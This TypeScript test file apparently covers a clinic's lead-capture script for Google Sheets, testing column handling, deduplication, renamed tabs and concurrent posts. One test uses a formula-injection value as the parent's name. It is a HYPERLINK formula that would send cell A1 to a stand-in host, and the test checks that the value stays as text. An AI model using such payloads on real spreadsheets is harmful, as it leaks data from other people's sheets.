import { booking, cells, consultation, deskHeader, google, header } from "./clinic.fixture";
import { install, leadHeader, paste, post } from "./clinic.fixture";
import { receivedAt, recordCalls, rows, script } from "./clinic.fixture";
import { setUp, tab, thanks } from "./clinic.fixture";
import { FakeSheet } from "./fake-sheet";
import { fieldNamesOf } from "./lead.js";
import { sampleLeads } from "./leads.fixture.js";

const minute = 60_000;
const lead = [...Object.values(booking), receivedAt];
// Saturday is a working day.
const desk = ["New", "2026-11-21", "", "WhatsApp"];
const full = [...lead, ...desk];
const ravi = [...Object.values({ ...booking, parentName: "Ravi" }), "then"];

test.each(["booking", "consultation"] as const)(
  "a new tab has the columns of the %s form and of the desk",
  (form) => {
    expect(post(sampleLeads[form])).toBe(thanks);

    const sheet = tab(form === "booking" ? "Booking" : "Consultation");
    const names = [...fieldNamesOf(form), "receivedAt"];
    expect(sheet.rows).toEqual([
      [...names, ...deskHeader],
      [...Object.values(sampleLeads[form]), receivedAt, ...desk],
    ]);
    expect(sheet.frozenRows).toBe(1);
    // Only cells of the lead are text: the date of the desk stays a date, and the link a link.
    expect(Object.keys(sheet.settings)).toEqual(names.map((_, index) => `format of ${index + 1}`));
    expect(sheet.links).toEqual([
      expect.stringMatching(/^https:\/\/wa\.me\/919876543210\?text=Hello%2C%20this[^"]+$/),
    ]);
    expect(google.locked).toBe(false);
  },
);

const index = header.indexOf("serviceRequest");
const withoutRequest = [...header.toSpliced(index, 1), "called"];
const notes = [...withoutRequest.map(() => "x"), "a note"];
const moved = ["called", ...header.toReversed(), "own"];
const renamed = header.with(header.indexOf("status"), "stage");
const box = [...leadHeader.map(() => ""), "", "FALSE"];
const boxes = Array.from({ length: 1200 }, () => box);
const own = [...leadHeader, "called", ...deskHeader];
const otherwise = header.map((name, at) =>
  at % 2 === 0
    ? ` ${name[0]!.toUpperCase()}${name.slice(1)} `
    : name.replace(/[A-Z]/g, " $&").toLowerCase(),
);

type Rows = readonly string[][];
const tabs: Record<string, readonly [before: Rows, after: Rows]> = {
  "a tab without a new field, which gets a column at the end, right of notes without a heading": [
    [withoutRequest, notes],
    [
      [...withoutRequest, "", "serviceRequest"],
      notes,
      [...full.toSpliced(index, 1), "", "", booking.serviceRequest],
    ],
  ],
  "a tab with moved columns and the clinic's own": [
    [moved, ["yes"]],
    [moved, ["yes", ...full.toReversed()]],
  ],
  "a tab with a renamed column, which stays; new rows fill a new one": [
    [renamed, [...ravi, "Came"]],
    [
      [...renamed, "status"],
      [...ravi, "Came"],
      [...full.with(header.indexOf("status"), ""), "New"],
    ],
  ],
  "a tab whose headings a phone or a person has written in another way": [
    [otherwise, ravi],
    [otherwise, ravi, full],
  ],
  "a tab with columns of the clinic that differ from the script's in their case alone": [
    [
      ["Note", ...header],
      ["paid", ...ravi],
    ],
    [
      ["Note", ...header],
      ["paid", ...ravi],
      ["", ...full],
    ],
  ],
  "a tab whose rows below the leads have boxes of the clinic": [
    [leadHeader, ravi, ...boxes],
    [
      [...leadHeader, "", "", ...deskHeader],
      ravi,
      [...lead, "", "FALSE", ...desk],
      ...boxes.slice(1),
    ],
  ],
  "a tab in which a person has written a note below the last lead": [
    [own, own.map((name) => ({ note: "two", called: "FALSE" })[name] ?? "")],
    [own, [...lead, "FALSE", ...desk.with(2, "two")]],
  ],
};
const cases = Object.entries(tabs);
test.each(cases)("a lead that is posted twice is one row of %s", (_, [before, after]) => {
  const sheet = paste(...before);
  // The clinic may have deleted columns. Google refuses a range right of the last one.
  sheet.maxColumns = 1 + Math.max(...before.map((texts) => texts.length));

  expect([post(booking), post(booking)]).toEqual([thanks, thanks]);

  expect(sheet.rows).toEqual(after);
  expect(google.mails).toHaveLength(1);
});

test("what a parent typed is text: a leading zero, and a formula that does not run", () => {
  const typed = {
    ...booking,
    parentName: '=HYPERLINK("http://example.com/?"&A1,"x")',
    phoneNumber: "09876543210",
  };

  post(typed);

  expect(rows()).toEqual([[...Object.values(typed), receivedAt, ...desk]]);
});

describe("the same request", () => {
  const again = { ...booking, timestamp: "2026-11-21T07:03:00.000Z" };

  test("gets ok: true within a day, and adds no row and no mail, whatever its text", () => {
    for (const parentName of ["Asha Sen", "=Asha", "'Asha'"])
      for (const minutes of [0, 9, 60 * 23]) {
        google.now += minutes * minute;
        expect(post({ ...again, parentName })).toBe(thanks);
      }
    expect(rows()).toHaveLength(3);
    expect(google.mails).toHaveLength(3);
  });

  test("is recognised whichever way its number is written, and the row keeps the first", () => {
    for (const phoneNumber of ["98110 02233", "+91 98110-02233", "09811002233"])
      expect(post({ ...again, phoneNumber })).toBe(thanks);

    expect(cells("phoneNumber")).toEqual(["98110 02233"]);
    expect(google.mails).toHaveLength(1);
  });

  test("is recognised in a sheet that shows the apostrophes that mark texts", () => {
    paste(
      leadHeader,
      lead.map((text) => `'${text}`),
    );

    expect(post(again)).toBe(thanks);
    expect(rows()).toHaveLength(1);
  });

  test("adds a row after a day, or if the time of receipt of the old row was deleted", () => {
    post(booking);
    google.now += 60 * 24 * minute;
    post(again);
    expect(rows()).toHaveLength(2);

    tab().getRange(3, leadHeader.length).setValue("called back");
    post(again);
    expect(rows()).toHaveLength(3);
  });
});

test("a tab that somebody has renamed, and taken a column from, is found by its headings, and gets its name back", () => {
  const { sheets } = google;
  sheets!.Notes = new FakeSheet([["status"], ["x"]]);
  expect(post(consultation)).toBe(thanks);
  const names = header.filter((name) => name !== "timestamp");
  sheets!["Long form"] = sheets!.Consultation!;
  sheets!["Requests of 2026"] = paste(names, ["Ravi"]);
  delete sheets!.Booking;
  delete sheets!.Consultation;

  expect(post(booking)).toBe(thanks);
  expect(Object.keys(sheets!)).toEqual(["Notes", "Long form", "Booking"]);
  expect(cells("parentName")).toEqual(["Ravi", "Asha Sen"]);
  expect(post({ ...consultation, childName: "Mira" })).toBe(thanks);
  expect(Object.keys(sheets!)).toEqual(["Notes", "Booking", "Consultation"]);
});

test("of two simultaneous posts, equal ones become one row and different ones two, also when the sheet must grow", () => {
  google.whileWaiting = () => post({ ...booking, parentName: "Ravi Roy" });
  post(booking);
  google.whileWaiting = () => post({ ...booking, parentName: "Meera" });
  post({ ...booking, parentName: "Meera" });

  // A new tab of the fake has three rows. The headings and three leads need a fourth.
  expect(cells("parentName")).toEqual(["Ravi Roy", "Asha Sen", "Meera"]);
  expect(google.mails).toHaveLength(3);
});

const works: Record<string, () => void> = {
  "an edit"() {
    const range = google.book().getSheetByName("Booking")!.getRange(2, 1);
    script.deskEdited({ ...google.triggerEvent("deskEdited"), range });
  },
  "the morning mail"() {
    google.now += 2 * 24 * 60 * minute;
    script.sendMorningMail(google.triggerEvent("sendMorningMail"));
  },
  "the list of old requests"() {
    google.answerDialog = () => "no";
    script.deleteOldLeads();
  },
};
test.each(Object.entries(works))(
  "a request that comes during %s is one row, and a heading that was missing is there once",
  (_, work) => {
    const meera = { ...booking, parentName: "Meera" };
    const someHeadings = [leadHeader.slice(0, 4), ravi.slice(0, 4)];
    const noHeadings = [ravi.with(-1, receivedAt)];
    for (const content of [someHeadings, [leadHeader, ravi], noHeadings])
      for (let at = 1, calls = at; at <= calls; at += 1) {
        install();
        setUp();
        paste(...content);
        // While the lock is held, the post waits.
        const recorded = recordCalls(at, () => google.locked || post(meera));

        work();

        calls = recorded.length;
        expect(post(meera)).toBe(thanks);
        const [names, ...leads] = tab().rows;
        expect(names!.toSorted()).toEqual(header.toSorted());
        const found = leads.map((cells) =>
          Object.keys(meera).map((name) => cells[names!.indexOf(name)]),
        );
        expect(found).toEqual([expect.any(Array), Object.values(meera)]);
      }
  },
);
